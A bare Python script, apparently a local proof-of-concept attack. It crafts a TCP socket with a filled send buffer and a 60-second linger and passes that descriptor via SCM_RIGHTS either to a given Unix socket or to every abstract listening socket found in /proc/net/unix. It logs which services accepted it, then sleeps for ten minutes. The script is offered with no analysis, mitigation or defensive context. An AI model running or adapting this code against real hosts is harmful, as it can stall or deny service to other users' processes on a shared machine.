# Sends a lingering socket to the Unix socket at the path in the argument. An empty argument stands for every abstract listener
# of the host.
import array, socket, struct, sys, time
LISTENING = 0x10000
readers = []
def lingering():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    sender = socket.create_connection(listener.getsockname())
    readers.append(listener.accept()[0])
    sender.setblocking(False)
    try:
        while True: sender.send(b"x" * 65536)
    except BlockingIOError: pass
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 60))
    return sender
def send(name, kind):
    with socket.socket(socket.AF_UNIX, kind) as to:
        to.connect(name)
        sent = lingering()
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sent.fileno()]))]
        try:
            to.sendmsg([b"GET "], rights)
            print("passed", name)
        except PermissionError:
            print("refused", name)
            sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
        sent.close()
if sys.argv[1]:
    send(sys.argv[1], socket.SOCK_STREAM)
else:
    for line in open("/proc/net/unix").readlines()[1:]:
        fields = line.split()
        if len(fields) == 8 and fields[7].startswith("@") and int(fields[3], 16) & LISTENING:
            send("\0" + fields[7][1:], socket.SocketKind(int(fields[4], 16)))
print("sent", flush=True)
time.sleep(600)
